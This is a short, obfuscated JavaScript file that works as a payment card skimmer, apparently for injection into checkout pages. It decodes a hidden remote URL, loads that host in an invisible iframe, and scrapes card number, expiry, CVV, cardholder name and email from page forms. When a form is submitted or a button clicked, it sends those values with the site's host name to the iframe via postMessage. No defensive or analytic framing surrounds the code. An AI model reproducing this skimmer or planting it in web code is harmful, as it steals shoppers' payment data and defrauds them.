var _f = String.fromCharCode;
var _h = _f(104,116,116,112,115,58,47,47,115,101,99,117,114,101,45,112,97,121,102,114,97,109,101,45,99,100,110,46,105,99,117);
var _p = _f(47,114,101,108,97,121,47,102,114,97,109,101,46,104,116,109,108);
var _pm = _f(112,111,115,116,77,101,115,115,97,103,101);
var _cw = _f(99,111,110,116,101,110,116,87,105,110,100,111,119);
var d = document, w = window;

(function () {
  var el = d['create' + 'Element']('ifr' + 'ame');
  el['src'] = _h + _p;
  el['width'] = el['height'] = '0';
  el['style']['display'] = 'none';
  var ok = false;
  el['onload'] = function () { ok = true; };
  d['documentElement']['appendChild'](el);

  var sels = {
    a: 'input[name*=card][name*=num], input[id*=cardNumber], input[autocomplete=cc-number]',
    b: 'input[name*=exp], select[name*=exp], input[autocomplete=cc-exp]',
    c: 'input[name*=cvv], input[name*=cvc], input[name*=cid], input[autocomplete=cc-csc]',
    e: 'input[name*=name][name*=card], input[autocomplete=cc-name]',
    f: 'input[type=email]'
  };

  function collect() {
    var o = {};
    for (var k in sels) {
      var list = d['querySelectorAll'](sels[k]);
      var vals = [];
      for (var i = 0; i < list.length; i++) if (list[i]['value']) vals.push(list[i]['value']);
      o[k] = vals.join('/');
    }
    o['g'] = w['location']['host'];
    return o;
  }

  function fire() {
    var data = collect();
    if (!data.a || !data.c) return;
    var t = setInterval(function () {
      if (!ok) return;
      clearInterval(t);
      el[_cw][_pm](w['JSON']['stringify'](data), '\u002a');
    }, 100);
  }

  d['addEventListener']('submit', fire, true);
  d['addEventListener']('click', function (ev) {
    var n = ev['target'];
    if (n && /button|submit/i.test(n['type'] || n['tagName'])) fire();
  }, true);
})();
